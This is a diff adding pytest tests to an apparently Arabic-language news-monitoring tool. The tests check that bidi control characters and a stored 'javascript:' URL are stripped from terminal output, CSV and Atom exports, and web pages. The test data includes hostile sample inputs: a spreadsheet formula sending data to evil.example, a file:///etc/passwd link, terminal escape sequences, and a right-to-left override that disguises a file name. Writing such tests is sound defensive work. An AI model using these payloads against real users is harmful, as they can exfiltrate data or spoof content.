@@ -11,9 +11,12 @@ import csv
 import io
 import logging
 import os
+import sqlite3
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
+from xml.etree import ElementTree as ET
 
 import pytest
 
@@ -23,12 +26,14 @@ from storage.db import make_engine
 from storage.export import to_csv
 from storage.repository import Repository
 from storage.safe_text import inert_cell, strip_controls
+from tests.rasid.web_fixtures import Browser
 from tests.storage.conftest import hit_verdict, outcome
 
 MARKUP_TITLE = "روسيا [/bold] تعاون"  # "Russia [/bold] cooperation": once made `rasid hits` exit 1
 LINK_TITLE = "[link=file:///etc/passwd]اضغط هنا[/link] روسيا"  # "click here ... Russia"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"روسيا")'
 ESCAPE_TITLE = "روسيا \x1b]8;;file:///etc/passwd\x1b\\رابط\x1b]8;;\x1b\\ \x1b[2J\x1b[31mتعاون\x07"
+ATOM = "{http://www.w3.org/2005/Atom}"
 ROOT = Path(__file__).resolve().parents[2]
 SECRETS = ("DbPassw0rd", "QueryPassw0rd", "RedisPassw0rd", "RedisQueryPassw0rd", "SmtpPassw0rd")
 
@@ -279,6 +284,82 @@ def test_feedback_export_dash_writes_to_standard_output(judged_db: str, tmp_path
     assert done.returncode == 0, done.stderr[-2000:]
     assert '"label": true' in done.stdout
     assert list(here.iterdir()) == []  # no file named "-"
+
+
+# ------------------------------------------------------------------------------------ bidi overrides and links
+
+RLO_TITLE = "روسيا \u202eتعاون\u202c \u2066مصر\u2069"  # a right-to-left override and an isolate in a title
+HOSTILE_URL = "javascript:alert(1)"
+BIDI = ("\u202e", "\u202c", "\u2066", "\u2069")
+
+
+@pytest.fixture
+def bidi_db(hostile_db: str) -> str:
+    """The hostile hits plus one whose title carries bidi controls and whose stored URL is ``javascript:``."""
+    repo = Repository(make_engine(hostile_db))
+    text = " ".join(f"خبر9كلمة{w}" for w in range(60))  # "news9word": its own story
+    repo.store(
+        [outcome("https://wam.ae/ar/rlo", text, source="wam", title=RLO_TITLE)], repo.start_run(["wam"])
+    )
+    with sqlite3.connect(hostile_db.removeprefix("sqlite:///")) as db:
+        db.execute(
+            "UPDATE articles SET url = ?, canonical_url = ? WHERE url = ?",
+            (HOSTILE_URL, HOSTILE_URL, "https://wam.ae/ar/rlo"),
+        )
+    return hostile_db
+
+
+@pytest.mark.parametrize("args", [("hits",), ("stories",), ("hits", "--format", "csv")])
+def test_bidi_controls_in_a_stored_title_never_reach_the_terminal(
+    bidi_db: str, args: tuple[str, ...]
+) -> None:
+    done = run(*args, "--db", bidi_db)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "روسيا تعاون مصر" in done.stdout
+    assert not [c for c in BIDI if c in done.stdout]
+
+
+@pytest.mark.parametrize("suffix", ["csv", "atom"])
+def test_exported_files_hold_no_bidi_controls(bidi_db: str, tmp_path: Path, suffix: str) -> None:
+    target = tmp_path / f"hits.{suffix}"
+    done = run("export", str(target), "--db", bidi_db)
+    assert done.returncode == 0, done.stderr[-2000:]
+    written = target.read_text(encoding="utf-8")
+    assert "روسيا تعاون مصر" in written
+    assert not [c for c in BIDI if c in written]
+
+
+@pytest.mark.parametrize("what", ["hits", "stories"])
+def test_the_atom_export_never_links_a_javascript_url(bidi_db: str, tmp_path: Path, what: str) -> None:
+    target = tmp_path / "feed.atom"
+    done = run("export", str(target), "--what", what, "--db", bidi_db)
+    assert done.returncode == 0, done.stderr[-2000:]
+    feed = target.read_text(encoding="utf-8")
+    assert "javascript:" not in feed
+    entry = next(
+        e for e in ET.fromstring(feed).iter(f"{ATOM}entry") if e.findtext(f"{ATOM}title") == "روسيا تعاون مصر"
+    )
+    assert entry.findall(f"{ATOM}link") == []  # the hostile hit keeps its entry, without a link
+    assert len(ET.fromstring(feed).findall(f"{ATOM}entry/{ATOM}link")) == 4  # the other hits keep theirs
+
+
+def test_web_pages_show_a_title_without_its_bidi_controls_and_no_javascript_link(
+    bidi_db: str, serve: Callable[..., Browser]
+) -> None:
+    site = serve(bidi_db)
+    story_id = next(s.story_id for s in site.repository.stories() if "\u202e" in s.title)
+    for path in ("/", f"/stories/{story_id}"):
+        page = site.get(path)
+        assert page.status_code == 200, path
+        assert "روسيا تعاون مصر" in page.text, path
+        assert not [c for c in BIDI if c in page.text], path
+        assert "javascript:" not in page.text, path
+
+
+def test_the_wrote_line_drops_bidi_controls_from_the_file_name(hostile_db: str, tmp_path: Path) -> None:
+    done = run("export", "\u202ecsv.exe.csv", "--db", hostile_db, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.stdout == "wrote 4 hits to csv.exe.csv (csv)\n"
 
 
 # ------------------------------------------------------------------------------------ secrets
